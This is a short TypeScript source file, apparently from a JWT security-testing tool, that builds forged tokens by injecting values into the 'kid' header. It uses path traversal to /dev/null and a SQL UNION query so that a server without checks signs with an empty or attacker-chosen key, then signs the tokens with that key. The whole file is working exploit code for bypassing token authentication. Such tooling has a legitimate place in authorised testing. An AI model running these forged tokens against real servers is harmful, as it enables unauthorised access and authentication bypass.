import type { ForgedToken } from './forged.ts';
import { encoded, isHmac, type Jwt, signedWith } from './jwt.ts';

/** A `kid` that an unchecked lookup turns into a publicly known key (RFC 8725 §3.10). Each only reads. */
const INJECTIONS = [
  { variant: 'the path of an empty file as kid', kid: '../../../../../../../../dev/null', key: '' },
  { variant: 'the absolute path of an empty file as kid', kid: '/dev/null', key: '' },
  { variant: 'SQL as kid', kid: "whyslow' UNION SELECT 'k' -- ", key: 'k' },
] as const;

/** Tokens whose `kid` is a path, or SQL. A server without a check of `kid` reads a file for them, or runs a query of ours. */
export function injectedKids({ header, parts: [, payload] }: Jwt): readonly ForgedToken[] {
  const alg = isHmac(header['alg']) ? header['alg'] : 'HS256';
  return INJECTIONS.map(({ variant, kid, key }) => {
    const signed = `${encoded({ ...header, alg, kid })}.${payload}`;
    return { kind: 'injected-kid', variant, token: `${signed}.${signedWith(signed, key, alg)}` };
  });
}
